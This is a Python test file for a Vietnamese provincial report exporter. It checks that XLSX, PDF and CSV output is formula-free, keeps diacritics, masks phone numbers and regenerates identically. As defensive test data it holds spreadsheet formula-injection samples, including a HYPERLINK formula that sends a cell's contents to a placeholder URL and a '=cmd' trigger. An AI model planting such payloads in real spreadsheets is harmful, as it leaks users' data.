"""XLSX, PDF and CSV of a constructed month: they open (openpyxl, LibreOffice, poppler),
carry no formula, keep the Vietnamese text, mask phone numbers, and regenerate to the
same bytes."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
import zipfile
from pathlib import Path

import openpyxl

from tests.reports.conftest import CALLER_PHONE, PAYLOADS, PLACES, poppler, soffice
from triage.db import session_scope
from triage.reports.build import write_formats
from triage.reports.cells import neutralise
from triage.reports.csv_export import csv_value
from triage.reports.service import COLUMNS, LISTS, Scope, iter_list
from triage.tickets.period import Period

OCT = Period(2026, 10)
FULL_PHONES = ("912345678", "987654321", "0987 654 321", "0912 345 678")


def _render(out: Path, scope: Scope = Scope(OCT)) -> dict[str, Path]:
    targets = {fmt: out / f"r.{fmt}" for fmt in ("xlsx", "pdf", "csv")}
    out.mkdir(parents=True, exist_ok=True)
    with session_scope() as s:
        write_formats(s, scope, targets)
    return targets


def _pdf_text(path: Path) -> str:
    done = subprocess.run([poppler("pdftotext"), "-layout", str(path), "-"], check=True,
                          capture_output=True, text=True)
    return unicodedata.normalize("NFC", done.stdout)


def _xlsx_strings(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path, read_only=True)
    return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True)
            for c in row if isinstance(c, str)]


def test_xlsx_has_no_formula_and_neutralises_trigger_text(october: dict[str, str],
                                                          tmp_path: Path) -> None:
    path = _render(tmp_path)["xlsx"]
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2 + len(LISTS)  # summary, charts, the lists
        for name in sheets:
            xml = z.read(name).decode()
            assert not re.search(r"<f[ >]", xml), name
            assert 'pane ySplit="1"' in xml or name.endswith(("sheet1.xml", "sheet2.xml"))
    wb = openpyxl.load_workbook(path)
    first = wb[LISTS[0].sheet]
    assert [c.value for c in first[1]] == list(COLUMNS)
    assert first.freeze_panes == "A2" and first.auto_filter.ref == "A1:L6"
    values = [c for row in first.iter_rows(min_row=2) for c in row]
    texts = {c.value for c in values if isinstance(c.value, str)}
    for payload in (*PAYLOADS, *PLACES[:3]):
        # A CR is stored as OOXML's escape _x000D_, which Excel and LibreOffice read back
        # as CR and openpyxl leaves as it is; some XML parsers turn a raw CR into LF. The
        # leading apostrophe is what matters.
        forms = {"'" + payload.replace("\r", cr) for cr in ("\r", "\n", "_x000D_")}
        assert forms & texts, payload
    assert all(c.data_type == "s" for c in values if isinstance(c.value, str))
    assert "Phường Mỹ Phú" in texts  # ordinary text untouched


def test_xlsx_opens_in_libreoffice_and_text_stays_text(october: dict[str, str],
                                                       tmp_path: Path) -> None:
    path = _render(tmp_path)["xlsx"]
    out = tmp_path / "lo"
    filt = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run([soffice(), f"-env:UserInstallation=file://{tmp_path / 'profile'}",
                    "--headless", "--convert-to", filt, "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180)
    sheet = next(out.glob("*1. TTHC*.csv")).read_text(encoding="utf-8")
    assert "'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"bấm\"\")" in sheet
    assert "'- đường hư" in sheet and "Sở Y tế" in sheet


def test_csv_round_trips_with_bom_quoting_and_neutralisation(october: dict[str, str],
                                                             tmp_path: Path) -> None:
    data = _render(tmp_path)["csv"].read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Danh sách", *COLUMNS]
    expected = []
    with session_scope() as s:
        for spec in LISTS:
            for n, row in enumerate(iter_list(s, Scope(OCT), spec.key), start=1):
                expected.append([f"{spec.number}. {spec.title}",
                                 *(csv_value(v) for v in row.values(n))])
    assert rows[1:] == expected
    cells = {c for row in rows for c in row}
    assert "'" + PAYLOADS[0] in cells and "'\r=cmd" in cells


def test_pdf_renders_and_keeps_vietnamese_diacritics(october: dict[str, str],
                                                     tmp_path: Path) -> None:
    path = _render(tmp_path)["pdf"]
    subprocess.run([poppler("pdftoppm"), "-r", "40", "-png", "-f", "1", "-l", "3", str(path),
                    str(tmp_path / "page")], check=True, timeout=120)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) == 3 and all(p.read_bytes()[:4] == b"\x89PNG" for p in pages)
    text = _pdf_text(path)
    for phrase in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                   "UBND TỈNH ĐỒNG THÁP", "BÁO CÁO", "Đồng Tháp, ngày 01 tháng 11 năm 2026",
                   "Phụ lục I", "Phụ lục II.b", "Phụ lục III",
                   "DANH SÁCH PHẢN ÁNH VỀ GIẢI QUYẾT TTHC TRỄ HẠN, QUÁ HẠN",
                   "hách dịch, gây phiền hà", "Sở Y tế", "Tỷ lệ xử lý đúng hạn"):
        assert phrase in text, phrase
    fonts = subprocess.run([poppler("pdffonts"), str(path)], check=True, capture_output=True,
                           text=True).stdout
    lines = [line.split() for line in fonts.splitlines()[2:] if line.strip()]
    assert lines and all("DejaVuSans" in cols[0] for cols in lines)
    # Columns emb, sub, uni: every font embedded (as a subset) with a Unicode map.
    assert all(cols[-5:-2] == ["yes", "yes", "yes"] for cols in lines)


def test_phone_numbers_are_masked_in_every_format(october: dict[str, str],
                                                  tmp_path: Path) -> None:
    files = _render(tmp_path)
    texts = {"xlsx": "\n".join(_xlsx_strings(files["xlsx"])),
             "csv": files["csv"].read_text(encoding="utf-8-sig"),
             "pdf": _pdf_text(files["pdf"])}
    for fmt, text in texts.items():
        assert "09xx xxx 678" in text and "09xx xxx 321" in text, fmt
        for full in (*FULL_PHONES, CALLER_PHONE):
            assert full not in text, (fmt, full)
        assert "Nguyễn Văn An" not in text, fmt  # caller named in the text: initials only


def test_regenerating_gives_identical_bytes(october: dict[str, str], tmp_path: Path) -> None:
    first, second = _render(tmp_path / "a"), _render(tmp_path / "b")
    for fmt in first:
        assert first[fmt].read_bytes() == second[fmt].read_bytes(), fmt


def test_agency_section_holds_only_that_agency(october: dict[str, str],
                                               tmp_path: Path) -> None:
    files = _render(tmp_path, Scope(OCT, "so-xd"))
    csv_text = files["csv"].read_text(encoding="utf-8-sig")
    assert october["so-xd"] in csv_text and october["late"] not in csv_text
    for text in (csv_text, _pdf_text(files["pdf"]), "\n".join(_xlsx_strings(files["xlsx"]))):
        assert "Sở Y tế" not in text
        assert october[PAYLOADS[0]] not in text


def test_neutralise_covers_every_trigger() -> None:
    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\0=x", "\x01-1"):
        out = neutralise(value)
        assert out.startswith("'") and "\0" not in out and "\x01" not in out
    # A NUL that hid nothing dangerous is simply dropped.
    assert neutralise("\0x") == "x"
    assert neutralise("Bình thường") == "Bình thường"
    assert csv_value(None) == "" and csv_value(3) == "3"


def test_workbook_in_a_second_process_gives_the_same_files(october: dict[str, str],
                                                           tmp_path: Path) -> None:
    one = _render(tmp_path / "one")
    targets = {fmt: tmp_path / "two" / f"r.{fmt}" for fmt in one}
    (tmp_path / "two").mkdir()
    with session_scope() as s:
        write_formats(s, Scope(OCT), targets, workers=2)
    for fmt, path in one.items():
        assert targets[fmt].read_bytes() == path.read_bytes(), fmt
